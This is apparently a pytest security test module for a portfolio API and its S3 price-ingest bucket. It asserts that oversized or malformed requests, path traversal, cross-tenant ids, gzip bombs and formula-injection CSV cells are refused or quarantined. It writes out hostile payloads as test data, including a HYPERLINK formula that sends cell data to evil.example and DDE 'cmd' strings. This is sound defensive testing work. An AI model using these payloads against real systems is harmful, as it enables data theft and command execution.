"""Hostile input over HTTP and through the landing bucket: a clear 4xx or a quarantine report.

Every case asserts both halves: the precise refusal (status and error envelope, or the
ingest result and its ``quarantine/`` report) and that nothing else changed: the target
portfolio keeps its version, the other tenant's data is untouched, no object appears or
changes outside the expected quarantine report, and a raw file is kept as it landed.
Cases already covered by ``test_api.py`` (1 MB/10 MB bodies, truncated nesting, NaN as an
extra field, forged page tokens) are extended here, not repeated.
"""

from __future__ import annotations

import csv
import gzip
import http.client
import io
import json
import os
import socket
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote, urlsplit

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from stack_client import DEV, JSON, OTHER, Answer, call, expect_error, ingest_call

from core.settings import env_name

pytestmark = pytest.mark.functional

MB = 1024 * 1024


# ------------------------------------------------------------------ HTTP
def _raw_request(stack: Any, head: bytes) -> tuple[int, bytes]:
    """Send ``head`` (request line and headers, no body) on a raw socket; read the answer."""
    url = urlsplit(stack.api_url)
    with socket.create_connection((url.hostname, url.port), timeout=60) as sock:
        sock.sendall(head)
        response = http.client.HTTPResponse(sock, method="POST")
        response.begin()
        assert (response.getheader("Content-Type") or "").startswith(JSON), response.status
        return response.status, response.read()


# ------------------------------------------------------------------ snapshots
def _bucket(stack: Any) -> dict[str, str]:
    """Every object of the data bucket: key → ETag."""
    s3 = stack.client("s3")
    objects: dict[str, str] = {}
    for page in s3.get_paginator("list_objects_v2").paginate(Bucket=stack.bucket):
        for item in page.get("Contents", []):
            objects[item["Key"]] = item["ETag"]
    return objects


def _portfolios(stack: Any, key: str) -> dict[str, Any]:
    """Every portfolio of the key's tenant, by id (all pages)."""
    found: dict[str, Any] = {}
    token: str | None = None
    while True:
        query = "?limit=100" + (f"&nextToken={quote(token)}" if token else "")
        answer = call(stack, "GET", "/portfolios" + query, key=key)
        assert answer.status == 200, str(answer)
        found.update({p["id"]: p for p in answer.json["items"]})
        token = answer.json["nextToken"]
        if token is None:
            return found


@dataclass
class World:
    """What must not change: both tenants' portfolios, and the bucket's objects."""

    demo: dict[str, Any]
    acme: dict[str, Any]
    objects: dict[str, str]

    @classmethod
    def take(cls, stack: Any) -> World:
        stack.wait_idle()
        return cls(_portfolios(stack, DEV), _portfolios(stack, OTHER), _bucket(stack))

    def assert_unchanged(self, stack: Any, *, new_objects: frozenset[str] = frozenset()) -> None:
        after = World.take(stack)
        assert after.demo == self.demo
        assert after.acme == self.acme
        appeared = set(after.objects) - set(self.objects)
        changed = {k for k, etag in self.objects.items() if after.objects.get(k) != etag}
        assert appeared == set(new_objects), sorted(appeared ^ set(new_objects))
        assert not changed, sorted(changed)


def _create(stack: Any, key: str = DEV, **fields: Any) -> dict[str, Any]:
    # No analyses: a create would request runs of them, and the World snapshots here must
    # change only by what each test does.
    portfolio = {
        "name": f"hostile {uuid.uuid4().hex[:8]}",
        "assets": {"ZZHIA": 0.5, "ZZHIB": 0.5},
        "analyses": [],
        **fields,
    }
    answer = call(stack, "POST", "/portfolios", key=key, body={"portfolio": portfolio})
    assert answer.status == 201, str(answer)
    created: dict[str, Any] = answer.json
    return created


@pytest.fixture(scope="module")
def victim(local_stack: Any) -> dict[str, Any]:
    """A demo portfolio with one run: the target of every hostile request."""
    portfolio = _create(local_stack)
    body = {"portfolioId": portfolio["id"], "paths": [[1.0, 1.1, 1.2], [1.0, 0.9, 0.95]]}
    run = call(local_stack, "POST", "/monte-carlo/analyze", body=body)
    assert run.status == 201, str(run)
    local_stack.wait_idle()
    return {"portfolio": portfolio, "run": run.json}


# ------------------------------------------------------------------ the gateway
@pytest.mark.parametrize(
    ("length", "status", "code"),
    [
        ("2147483648", 413, "PAYLOAD_TOO_LARGE"),  # 2 GB claimed, never sent
        ("99999999999999999999999999", 413, "PAYLOAD_TOO_LARGE"),
        ("-1", 400, "BAD_REQUEST"),
        ("abc", 400, "BAD_REQUEST"),
        ("1e3", 400, "BAD_REQUEST"),
        ("5\r\nContent-Length: 7", 400, "BAD_REQUEST"),  # two different lengths
    ],
    ids=["2GB", "huge", "negative", "text", "exponent", "conflicting"],
)
def test_a_content_length_claim_is_answered_without_reading_the_body(
    local_stack: Any, victim: dict[str, Any], length: str, status: int, code: str
) -> None:
    before = World.take(local_stack)
    calls = len(local_stack.runtime.calls())
    pid = victim["portfolio"]["id"]
    head = (
        f"PUT /portfolios/{pid} HTTP/1.1\r\nHost: x\r\nx-api-key: {DEV}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    ).encode()
    answered, body = _raw_request(local_stack, head)
    expect_error(Answer(answered, body, f"Content-Length: {length}"), status, code)
    assert len(local_stack.runtime.calls()) == calls  # no function ran
    before.assert_unchanged(local_stack)


@pytest.mark.parametrize(
    "target",
    ["/portfolios?nextToken=" + "A" * 70_000, "/portfolios/" + "p" * 70_000],
    ids=["token-70k", "id-70k"],
)
def test_an_overlong_request_line_is_a_414_envelope(local_stack: Any, target: str) -> None:
    before = World.take(local_stack)
    calls = len(local_stack.runtime.calls())
    head = f"GET {target} HTTP/1.1\r\nHost: x\r\nx-api-key: {DEV}\r\n\r\n".encode()
    answered, body = _raw_request(local_stack, head)
    expect_error(Answer(answered, body, "GET <70k>"), 414, "BAD_REQUEST")
    assert len(local_stack.runtime.calls()) == calls
    before.assert_unchanged(local_stack)


def test_a_large_body_under_the_gateway_limit_is_refused_by_the_function(
    local_stack: Any, victim: dict[str, Any]
) -> None:
    # 5 MB of valid JSON: API Gateway (10 MB) lets it through, the function says 413.
    portfolio = victim["portfolio"]
    before = World.take(local_stack)
    body = {
        "portfolio": {"name": "big", "description": "", "assets": {"AAPL": 1.0}, "analyses": []},
        "version": portfolio["version"],
        "padding": "x" * (5 * MB),
    }
    for method, path in (("PUT", f"/portfolios/{portfolio['id']}"), ("POST", "/portfolios")):
        error = expect_error(call(local_stack, method, path, body=body), 413, "PAYLOAD_TOO_LARGE")
        assert "1,048,576" in error["message"]
    before.assert_unchanged(local_stack)


# ------------------------------------------------------------------ JSON bodies
def _nested(depth: int, opener: bytes, closer: bytes, leaf: bytes = b"1") -> bytes:
    return opener * depth + leaf + closer * depth


HOSTILE_BODIES: list[tuple[str, bytes, bytes, str]] = [
    # (id, JSON text of the description, of the AAPL weight, expected detail text)
    ("objects-10000-deep", _nested(10_000, b'{"a":', b"}"), b"1.0", "recursion"),
    ("lists-10000-deep", _nested(10_000, b"[", b"]", b""), b"1.0", "recursion"),
    ("lists-500-deep", _nested(500, b"[", b"]", b""), b"1.0", "recursion limit"),
    ("lists-100-deep", _nested(100, b"[", b"]", b""), b"1.0", "description"),
    ("1e309", b'""', b"1e309", "finite"),
    ("-1e309", b'""', b"-1e309", "finite"),
    ("10**400", b'""', b"1" + b"0" * 400, "finite"),
    ("10**5000", b'""', b"1" + b"0" * 5000, "digits"),
    ("NaN", b'""', b"NaN", "finite"),
    ("Infinity", b'""', b"Infinity", "finite"),
    ("-Infinity", b'""', b"-Infinity", "finite"),
    ("lone-surrogate", b'"a\\ud800b"', b"1.0", "JSON"),
]


def _hostile_body(description: bytes, weight: bytes, version: int | None) -> bytes:
    tail = b"" if version is None else b', "version": %d' % version
    portfolio = b'{"name": "hostile", "description": %s, "assets": {"AAPL": %s}, "analyses": []}'
    return b'{"portfolio": %s%s}' % (portfolio % (description, weight), tail)


@pytest.mark.parametrize(
    ("description", "weight", "needle"),
    [(d, w, n) for _, d, w, n in HOSTILE_BODIES],
    ids=[i for i, _, _, _ in HOSTILE_BODIES],
)
@pytest.mark.parametrize("method", ["POST", "PUT"])
def test_deep_nesting_and_non_finite_numbers_are_400(
    local_stack: Any,
    victim: dict[str, Any],
    *,
    method: str,
    description: bytes,
    weight: bytes,
    needle: str,
) -> None:
    portfolio = victim["portfolio"]
    before = World.take(local_stack)
    path = "/portfolios" if method == "POST" else f"/portfolios/{portfolio['id']}"
    raw = _hostile_body(description, weight, None if method == "POST" else portfolio["version"])
    error = expect_error(call(local_stack, method, path, raw=raw), 400, "VALIDATION_ERROR")
    assert needle.lower() in " ".join([error["message"], *error["details"]]).lower(), error
    before.assert_unchanged(local_stack)


@pytest.mark.parametrize(
    "route", ["/optimization/hrp", "/optimization/risk-parity", "/monte-carlo/simulate"]
)
@pytest.mark.parametrize(
    "number",
    [b"1e309", b"-1e309", b"1" + b"0" * 400, b"NaN", b"-Infinity"],
    ids=["1e309", "-1e309", "10**400", "NaN", "-Infinity"],
)
def test_non_finite_returns_in_a_run_request_are_400_and_start_no_run(
    local_stack: Any, route: str, number: bytes
) -> None:
    before = World.take(local_stack)
    runs = len(local_stack.runtime.calls("RunWorkerFunction"))
    raw = b'{"returns": {"AAPL": [%s, 0.01, 0.02], "MSFT": [0.0, 0.01, -0.01]}}' % number
    expect_error(call(local_stack, "POST", route, raw=raw), 400, "VALIDATION_ERROR")
    assert len(local_stack.runtime.calls("RunWorkerFunction")) == runs
    before.assert_unchanged(local_stack)


CONTROL_TEXT = {
    "NUL": "a\u0000b",
    "ESC": "red \u001b[31mALERT\u001b[0m",
    "BEL": "ding\u0007",
    "DEL": "x\u007fy",
    "C1-NEL": "x\u0085y",
    "RLO": "invoice \u202egnp.exe",
    "LRI": "x\u2066y\u2069",
}


@pytest.mark.parametrize("field", ["name", "description"])
@pytest.mark.parametrize("text", CONTROL_TEXT.values(), ids=CONTROL_TEXT.keys())
@pytest.mark.parametrize("method", ["POST", "PUT"])
def test_control_and_bidi_override_characters_in_text_are_400(
    local_stack: Any, victim: dict[str, Any], method: str, text: str, field: str
) -> None:
    portfolio = victim["portfolio"]
    before = World.take(local_stack)
    fields = {"name": "ok", "description": "", "assets": {"AAPL": 1.0}, "analyses": [], field: text}
    body: dict[str, Any] = {"portfolio": fields}
    path = "/portfolios"
    if method == "PUT":
        body["version"] = portfolio["version"]
        path = f"/portfolios/{portfolio['id']}"
    error = expect_error(call(local_stack, method, path, body=body), 400, "VALIDATION_ERROR")
    where = f"portfolio.{field}"
    assert any(d.startswith(where) and "control" in d for d in error["details"]), error
    before.assert_unchanged(local_stack)


@pytest.mark.parametrize(
    "text",
    [
        "Ünïcødé — 日本語 — العربية — עברית — 🚀📈👩‍👩‍👧",
        "tab\tand\r\nnewlines are text",
        "zero\u200bwidth and BOM\ufeff are visible-safe",
        "\U0010fffd plane 16 and 𝕏",
    ],
    ids=["scripts", "whitespace", "invisible", "astral"],
)
def test_unicode_text_round_trips_intact_through_put_and_list(local_stack: Any, text: str) -> None:
    created = _create(local_stack, name=text[:200], description=text)
    fields = {"name": text[:200], "description": text * 2, "assets": {"AAPL": 1.0}, "analyses": []}
    body = {"portfolio": fields, "version": 1}
    updated = call(local_stack, "PUT", f"/portfolios/{created['id']}", body=body)
    assert updated.status == 200, str(updated)
    listed = _portfolios(local_stack, DEV)[created["id"]]
    assert listed["portfolio"]["name"] == text[:200]
    assert listed["portfolio"]["description"] == text * 2
    assert call(local_stack, "GET", f"/portfolios/{created['id']}").json == updated.json


# ------------------------------------------------------------------ ids, paths and tenants
TRAVERSALS: list[tuple[str, str, int, str]] = [
    # (method, path with {pid}/{rid} of the victim, status, code): a path the gateway routes
    # nowhere is a 404; an id that reaches a function but is no id ("..") is a 400.
    ("GET", "/portfolios/..%2f..%2fportfolios", 404, "NOT_FOUND"),
    ("GET", "/portfolios/%2e%2e%2f%2e%2e%2f{pid}", 404, "NOT_FOUND"),
    ("GET", "/portfolios/%2e%2e", 400, "VALIDATION_ERROR"),
    ("GET", "/portfolios/..", 400, "VALIDATION_ERROR"),
    ("GET", "/portfolios/..%5c..%5c{pid}", 404, "NOT_FOUND"),
    ("GET", "/portfolios/{pid}%2f..%2f..%2f{pid}", 404, "NOT_FOUND"),
    ("GET", "/portfolios/{pid}%00", 404, "NOT_FOUND"),
    ("PUT", "/portfolios/..%2f{pid}", 404, "NOT_FOUND"),
    ("PUT", "/portfolios/%2e%2e", 400, "VALIDATION_ERROR"),
    ("DELETE", "/portfolios/..%2f{pid}?version=1", 404, "NOT_FOUND"),
    ("DELETE", "/portfolios/%2e%2e?version=1", 400, "VALIDATION_ERROR"),
    # Unconditional deletes and recomputes: no version stands between them and the victim.
    ("DELETE", "/portfolios/..%2f{pid}", 404, "NOT_FOUND"),
    ("DELETE", "/portfolios/%2e%2e", 400, "VALIDATION_ERROR"),
    ("DELETE", "/portfolios/{pid}%00", 404, "NOT_FOUND"),
    ("POST", "/portfolios/..%2f{pid}/runs", 404, "NOT_FOUND"),
    ("POST", "/portfolios/%2e%2e/runs", 400, "VALIDATION_ERROR"),
    ("GET", "/portfolios/%2e%2e/runs", 400, "VALIDATION_ERROR"),
    ("GET", "/portfolios/%2e%2e/report", 400, "VALIDATION_ERROR"),
    ("GET", "/runs/%2e%2e", 400, "VALIDATION_ERROR"),
    ("GET", "/runs/..%2f{rid}", 404, "NOT_FOUND"),
    ("GET", "/runs/%2e%2e/report", 400, "VALIDATION_ERROR"),
    ("GET", "/runs/..%2f..%2freports%2f{rid}/report", 404, "NOT_FOUND"),
    ("GET", "/runs/{rid}%0d%0aSet-Cookie:x/report", 404, "NOT_FOUND"),
    (
        "GET",
        "/market-data/prices?tickers=..%2fAAPL&start=2024-01-02&end=2024-02-01",
        400,
        "VALIDATION_ERROR",
    ),
]


@pytest.mark.parametrize(
    ("method", "path", "status", "code"), TRAVERSALS, ids=[f"{m} {p}" for m, p, _, _ in TRAVERSALS]
)
def test_path_traversal_in_ids_is_refused_and_touches_nothing(
    local_stack: Any, victim: dict[str, Any], *, method: str, path: str, status: int, code: str
) -> None:
    before = World.take(local_stack)
    target = path.format(pid=victim["portfolio"]["id"], rid=victim["run"]["id"])
    body = None
    if method == "PUT":
        body = {
            "portfolio": {"name": "hijacked", "assets": {"AAPL": 0.5, "MSFT": 0.5}},
            "version": 1,
        }
    expect_error(call(local_stack, method, target, body=body), status, code)
    before.assert_unchanged(local_stack)


@pytest.mark.parametrize(
    "portfolio_id", ["../../p-0000000000000000", "..%2fp-0", "p-0/../../x", ".", "..", "p-\u0000"]
)
@pytest.mark.parametrize("route", ["/optimization/hrp", "/monte-carlo/simulate"])
def test_traversal_in_a_body_portfolio_id_is_refused(
    local_stack: Any, route: str, portfolio_id: str
) -> None:
    before = World.take(local_stack)
    answer = call(local_stack, "POST", route, body={"portfolioId": portfolio_id})
    assert answer.status in (400, 404), str(answer)
    expect_error(answer, answer.status, "VALIDATION_ERROR" if answer.status == 400 else "NOT_FOUND")
    before.assert_unchanged(local_stack)


def _as_missing(error: dict[str, Any], real: str, missing: str) -> dict[str, Any]:
    text = json.dumps(error).replace(real, missing)
    same: dict[str, Any] = json.loads(text)
    return same


CROSS_TENANT = [
    ("GET", "/portfolios/{pid}", None),
    (
        "PUT",
        "/portfolios/{pid}",
        {"portfolio": {"name": "x", "assets": {"AAPL": 0.5, "MSFT": 0.5}}},
    ),
    (
        "PUT",
        "/portfolios/{pid}",
        {"portfolio": {"name": "x", "assets": {"AAPL": 0.5, "MSFT": 0.5}}, "version": 1},
    ),
    ("DELETE", "/portfolios/{pid}", None),
    ("DELETE", "/portfolios/{pid}?version=1", None),
    ("POST", "/portfolios/{pid}/runs", None),
    ("GET", "/portfolios/{pid}/runs", None),
    ("GET", "/portfolios/{pid}/report", None),
    ("GET", "/runs/{rid}", None),
    ("GET", "/runs/{rid}/report", None),
    ("POST", "/optimization/risk-parity", {"portfolioId": "{pid}"}),
    ("POST", "/optimization/hrp", {"portfolioId": "{pid}"}),
    ("POST", "/optimization/efficient-frontier", {"portfolioId": "{pid}"}),
    ("POST", "/monte-carlo/simulate", {"portfolioId": "{pid}"}),
    ("POST", "/monte-carlo/analyze", {"portfolioId": "{pid}", "paths": [[1.0, 1.1], [1.0, 0.9]]}),
    (
        "POST",
        "/optimization/risk-parity",
        {"portfolioId": "{pid}", "returns": {"AAPL": [0.01, 0.0, 0.02], "MSFT": [0.0, 0.01, 0.0]}},
    ),
]


@pytest.mark.parametrize(
    ("method", "path", "body"),
    CROSS_TENANT,
    ids=[f"{m} {p}" + (f" {'+'.join(sorted(b))}" if b else "") for m, p, b in CROSS_TENANT],
)
def test_another_tenants_ids_answer_exactly_like_missing_ones(
    local_stack: Any, victim: dict[str, Any], method: str, path: str, body: Any
) -> None:
    pid, rid = victim["portfolio"]["id"], victim["run"]["id"]
    missing_pid, missing_rid = "p-" + "0" * 16, "r-" + "0" * 16
    before = World.take(local_stack)

    def send(p: str, r: str) -> Answer:
        filled = None if body is None else json.loads(json.dumps(body).replace("{pid}", p))
        return call(local_stack, method, path.format(pid=p, rid=r), key=OTHER, body=filled)

    theirs = expect_error(send(pid, rid), 404, "NOT_FOUND")
    missing = expect_error(send(missing_pid, missing_rid), 404, "NOT_FOUND")
    # No existence leak: byte for byte the answer for an id that does not exist.
    assert _as_missing(_as_missing(theirs, pid, missing_pid), rid, missing_rid) == missing
    before.assert_unchanged(local_stack)
    # And the owner still reaches it.
    assert call(local_stack, "GET", f"/portfolios/{pid}").json == victim["portfolio"]


def test_page_tokens_cannot_cross_endpoints_or_be_mutated(
    local_stack: Any, victim: dict[str, Any]
) -> None:
    for _ in range(2):
        _create(local_stack)
    portfolios_token = call(local_stack, "GET", "/portfolios?limit=1").json["nextToken"]
    pid = victim["portfolio"]["id"]
    for _ in range(2):
        body = {"portfolioId": pid, "paths": [[1.0, 1.1], [1.0, 0.9]]}
        assert call(local_stack, "POST", "/monte-carlo/analyze", body=body).status == 201
    runs_token = call(local_stack, "GET", f"/portfolios/{pid}/runs?limit=1").json["nextToken"]
    assert portfolios_token
    assert runs_token
    before = World.take(local_stack)
    cases = [
        ("/portfolios", runs_token),  # a runs token on the portfolio listing
        (f"/portfolios/{pid}/runs", portfolios_token),  # and the other way round
        ("/portfolios", portfolios_token + "A"),
        ("/portfolios", portfolios_token[::-1]),
        ("/portfolios", portfolios_token.swapcase()),
        ("/portfolios", "\u202e" + portfolios_token),
        ("/portfolios", portfolios_token + "\u0000"),
        (f"/portfolios/{pid}/runs", runs_token[:-2]),
        (f"/portfolios/{pid}/runs", "x" * 8000),
    ]
    for path, token in cases:
        answer = call(local_stack, "GET", f"{path}?nextToken={quote(token)}")
        expect_error(answer, 400, "VALIDATION_ERROR")
    # A tenant's own runs token on its own portfolio, used by the other tenant: 404 first.
    answer = call(
        local_stack, "GET", f"/portfolios/{pid}/runs?nextToken={quote(runs_token)}", key=OTHER
    )
    expect_error(answer, 404, "NOT_FOUND")
    before.assert_unchanged(local_stack)


# ------------------------------------------------------------------ files in the bucket
def _parquet(table: pa.Table) -> bytes:
    sink = io.BytesIO()
    pq.write_table(table, sink)
    return sink.getvalue()


def _day(offset: int = 10) -> str:
    day = datetime.now(UTC).date() - timedelta(days=offset)
    while day.weekday() >= 5:
        day -= timedelta(days=1)
    return day.isoformat()


def _ticker() -> str:
    return "H" + uuid.uuid4().hex[:5].upper().replace("0", "A")


@dataclass
class Landing:
    key: str
    result: dict[str, Any]
    report: dict[str, Any] | None
    new_objects: frozenset[str]
    changed_objects: frozenset[str]


def _land(stack: Any, key: str, body: bytes) -> Landing:
    """Put ``body`` at ``key``, let the event chain finish, return the ingest result."""
    s3 = stack.client("s3")
    before = _bucket(stack)
    s3.put_object(Bucket=stack.bucket, Key=key, Body=body)
    stack.wait_idle()
    invocation = ingest_call(stack, key)
    # The raw file is kept exactly as it landed.
    assert s3.get_object(Bucket=stack.bucket, Key=key)["Body"].read() == body
    after = _bucket(stack)
    result: dict[str, Any] = invocation.result
    report = None
    if result["quarantine_key"]:
        raw = s3.get_object(Bucket=stack.bucket, Key=result["quarantine_key"])["Body"].read()
        report = json.loads(raw)
    changed = frozenset(k for k, etag in before.items() if after.get(k) != etag)
    return Landing(key, result, report, frozenset(set(after) - set(before) - {key}), changed)


def _assert_rejected(landing: Landing, code: str) -> None:
    """A whole-file refusal: a report in quarantine/ and not one other object."""
    result, report = landing.result, landing.report
    assert result["status"] == "rejected", result
    assert result["reason"].startswith(code + ":"), result
    assert result["rows_accepted"] == 0, result
    assert not result["partitions_written"], result
    assert result["manifest_key"] is None, result
    assert result["event_id"] is None, result
    quarantine_key = result["quarantine_key"]
    assert quarantine_key.startswith("quarantine/prices/"), quarantine_key
    assert quarantine_key.endswith("/report.json"), quarantine_key
    assert ".." not in quarantine_key.split("/"), quarantine_key
    assert landing.new_objects == {quarantine_key}, sorted(landing.new_objects)
    assert not landing.changed_objects, sorted(landing.changed_objects)
    assert report is not None
    assert report["file_rejected"] is True
    assert report["reason"] == code
    assert report["source"]["key"] == landing.key
    assert report["message"]


_GZIP_BOMB = gzip.compress(b"\0" * (20 * MB), compresslevel=9)  # 20 MB in ~20 KB
_CSV_OK = f"date,ticker,close\n{_day()},HZZZZ,1.0\n".encode()

REJECTED_FILES: list[tuple[str, str, bytes, str]] = [
    # (id, file name, body, reject code)
    ("zero-bytes-csv", "prices.csv", b"", "EMPTY_FILE"),
    ("zero-bytes-parquet", "prices.parquet", b"", "EMPTY_FILE"),
    # Not UTF-8 and ragged: the parser stops at the first ragged row.
    ("binary-junk-csv", "prices.csv", bytes(range(256)) * 8, "UNPARSEABLE"),
    ("latin1-csv", "prices.csv", _CSV_OK.replace(b"HZZZZ", b"HZZ\xc9Z"), "INVALID_ENCODING"),
    ("binary-junk-no-suffix", "prices.bin", os.urandom(4096), "UNSUPPORTED_FORMAT"),
    ("gzip-bomb-as-csv", "prices.csv", _GZIP_BOMB, "INVALID_ENCODING"),
    ("gzip-bomb-as-parquet", "prices.parquet", _GZIP_BOMB, "UNPARSEABLE"),
    ("gzip-csv-suffix", "prices.csv.gz", gzip.compress(_CSV_OK), "UNSUPPORTED_FORMAT"),
    ("fake-parquet-magic", "prices.parquet", b"PAR1" + os.urandom(256) + b"PAR1", "UNPARSEABLE"),
    (
        "truncated-parquet",
        "prices.parquet",
        _parquet(pa.table({"date": [_day()], "ticker": ["HZZZZ"], "close": [1.0]}))[:-40],
        "UNPARSEABLE",
    ),
    (
        "utf16-bom-csv",
        "prices.csv",
        ("\ufeff" + _CSV_OK.decode()).encode("utf-16-le"),
        "INVALID_ENCODING",
    ),
    ("bom-only", "prices.csv", b"\xef\xbb\xbf", "NO_HEADER"),
    (
        "parquet-missing-close",
        "prices.parquet",
        _parquet(pa.table({"date": [_day()], "ticker": ["HZZZZ"]})),
        "MISSING_COLUMN",
    ),
    (
        "parquet-bool-close",
        "prices.parquet",
        _parquet(pa.table({"date": [_day()], "ticker": ["HZZZZ"], "close": [True]})),
        "BAD_COLUMN_TYPE",
    ),
    (
        "parquet-list-close",
        "prices.parquet",
        _parquet(pa.table({"date": [_day()], "ticker": ["HZZZZ"], "close": [[1.0]]})),
        "BAD_COLUMN_TYPE",
    ),
    (
        "parquet-struct-ticker",
        "prices.parquet",
        _parquet(pa.table({"date": [_day()], "ticker": [{"a": 1}], "close": [1.0]})),
        "BAD_COLUMN_TYPE",
    ),
    (
        "csv-duplicate-column",
        "prices.csv",
        b"date,ticker,close,Close\n" + _CSV_OK[18:],
        "DUPLICATE_COLUMN",
    ),
    (
        "csv-2000-columns",
        "prices.csv",
        (",".join(["date", "ticker", "close", *(f"c{i}" for i in range(2000))]) + "\n").encode(),
        "TOO_MANY_COLUMNS",
    ),
]


@pytest.mark.parametrize(
    ("name", "body", "code"),
    [(n, b, c) for _, n, b, c in REJECTED_FILES],
    ids=[i for i, _, _, _ in REJECTED_FILES],
)
def test_unusable_files_get_a_quarantine_report_and_change_nothing_else(
    local_stack: Any, name: str, body: bytes, code: str
) -> None:
    before = World.take(local_stack)
    landing = _land(local_stack, f"raw/prices/hostile-{uuid.uuid4().hex[:8]}/{name}", body)
    _assert_rejected(landing, code)
    before.assert_unchanged(local_stack, new_objects=landing.new_objects | {landing.key})


def test_a_file_over_the_ingest_limit_is_refused_before_it_is_downloaded(
    inline_stack: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The limit is an environment setting (256 MiB by default); a small one here, so the
    # test need not upload gigabytes. The inline stack's functions run in this process and
    # read it per call.
    body = _CSV_OK + b"".join(f"{_day()},HZ{i:03d},1.0\n".encode() for i in range(200))
    monkeypatch.setenv(env_name("max_ingest_file_bytes"), str(len(body) - 1))
    before = World.take(inline_stack)
    landing = _land(inline_stack, f"raw/prices/hostile-{uuid.uuid4().hex[:8]}/big.csv", body)
    _assert_rejected(landing, "FILE_TOO_LARGE")
    assert f"{len(body):,} bytes" in landing.report["message"]  # type: ignore[index]
    before.assert_unchanged(inline_stack, new_objects=landing.new_objects | {landing.key})
    # Exactly at the limit it is read (and here curated: it is a good file).
    monkeypatch.setenv(env_name("max_ingest_file_bytes"), str(len(body)))
    again = _land(inline_stack, f"raw/prices/hostile-{uuid.uuid4().hex[:8]}/big.csv", body)
    assert again.result["status"] in ("curated", "unchanged"), again.result


UNSAFE_KEYS = [
    "raw/prices/../../curated/prices/year=2024/{u}.csv",
    "raw/prices/{u}/../../../results/x.csv",
    "raw/prices/{u}/./x.csv",
    "raw/prices/{u}/..",
    "raw/prices/{u}/esc\u001b[2J.csv",
    "raw/prices/{u}/tab\tin-key.csv",  # moto refuses a newline in a key; S3 would not
    "raw/prices/{u}/rlo\u202evsc.csv",
]


@pytest.mark.parametrize(
    "template", UNSAFE_KEYS, ids=[k.split("}", 1)[-1][:30] for k in UNSAFE_KEYS]
)
def test_traversal_and_control_characters_in_raw_keys_are_quarantined_unread(
    local_stack: Any, template: str
) -> None:
    u = uuid.uuid4().hex[:8]
    key = template.format(u=u)
    before = World.take(local_stack)
    reads = len(local_stack.runtime.calls("ReturnsFunction"))
    landing = _land(local_stack, key, f"date,ticker,close\n{_day()},{_ticker()},1.0\n".encode())
    _assert_rejected(landing, "UNSAFE_KEY")
    assert landing.result["quarantine_key"].startswith("quarantine/prices/_unsafe-keys/")
    assert len(local_stack.runtime.calls("ReturnsFunction")) == reads
    before.assert_unchanged(local_stack, new_objects=landing.new_objects | {key})


def test_a_percent_encoded_dot_dot_is_just_a_name(local_stack: Any) -> None:
    # S3 keys are literal and nothing decodes them: "%2e%2e" is a folder called "%2e%2e".
    key = f"raw/prices/hostile-{uuid.uuid4().hex[:8]}/%2e%2e/%2e%2e/prices.csv"
    ticker = _ticker()
    landing = _land(local_stack, key, f"date,ticker,close\n{_day()},{ticker},1.0\n".encode())
    assert landing.result["status"] == "curated", landing.result
    assert all(
        k.startswith(("curated/prices/", "curated/returns/", "tmp/changes/"))
        for k in landing.new_objects
    ), landing.new_objects


def _curated_rows(stack: Any, tickers: set[str]) -> list[dict[str, Any]]:
    s3 = stack.client("s3")
    rows: list[dict[str, Any]] = []
    for key in _bucket(stack):
        if key.startswith("curated/prices/") and key.endswith(".parquet"):
            table = pq.read_table(
                io.BytesIO(s3.get_object(Bucket=stack.bucket, Key=key)["Body"].read())
            )
            rows += [r for r in table.to_pylist() if r["ticker"] in tickers]
    return rows


def test_csv_quotes_newlines_boms_and_crlf_parse_into_exactly_the_rows(local_stack: Any) -> None:
    t = [_ticker() for _ in range(5)]
    day = _day()
    text = (
        "\ufeffDate , TICKER,Close,note\r\n"  # BOM, case and spaces in the header; CRLF
        f'{day},{t[0]},1.5,"say ""hi"", twice"\r\n'  # embedded quotes and comma
        f'{day},{t[1]},2.5,"two\r\nlines"\r\n'  # embedded CRLF in a quoted field
        f'"{day}","{t[2]}","3.5","a\nb"\n'  # every field quoted, a bare LF line end
        f"{day},{t[3]},4.5,\r"  # a lone CR line end
        f"{day},{t[4]},5.5,last line without a newline"
    )
    landing = _land(local_stack, f"raw/prices/hostile-{uuid.uuid4().hex[:8]}/q.csv", text.encode())
    assert landing.result["status"] == "curated", landing.result
    assert landing.result["rows_read"] == 5, landing.result
    assert landing.result["rows_accepted"] == 5, landing.result
    got = {r["ticker"]: r["close"] for r in _curated_rows(local_stack, set(t))}
    assert got == {t[0]: 1.5, t[1]: 2.5, t[2]: 3.5, t[3]: 4.5, t[4]: 5.5}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]


def test_formula_cells_are_quarantined_and_escaped_in_the_exported_rows_csv(
    local_stack: Any,
) -> None:
    good = _ticker()
    day = _day()
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # so a lone CR in a cell is quoted
    writer.writerow(["date", "ticker", "close", "note"])
    writer.writerow([day, good, "10.0", FORMULAS[0]])  # a good row: the note is ignored
    for formula in FORMULAS:
        writer.writerow([day, formula, "1.0", formula])  # BAD_TICKER
        writer.writerow([day, _ticker(), formula, formula])  # BAD_NUMBER
    before = World.take(local_stack)
    landing = _land(
        local_stack, f"raw/prices/hostile-{uuid.uuid4().hex[:8]}/f.csv", out.getvalue().encode()
    )
    result = landing.result
    assert result["status"] == "curated", result
    assert result["rows_accepted"] == 1, result
    assert result["rows_rejected"] == 2 * len(FORMULAS), result
    assert result["rejected_counts"]["BAD_TICKER"] == len(FORMULAS)
    assert result["rejected_counts"]["BAD_NUMBER"] == len(FORMULAS)
    # The export a person opens: every cell that starts like a formula starts with a quote.
    prefix = result["quarantine_key"].removesuffix("report.json")
    s3 = local_stack.client("s3")
    exported = s3.get_object(Bucket=local_stack.bucket, Key=prefix + "rows.csv")["Body"].read()
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8"), newline="")))
    assert rows[0] == ["row", "reason", "date", "ticker", "close", "note"]
    assert len(rows) == 1 + 2 * len(FORMULAS)
    cells = [cell for row in rows[1:] for cell in row[3:]]
    for formula in FORMULAS:
        assert cells.count("'" + formula) == 4, formula  # ticker+note, close+note
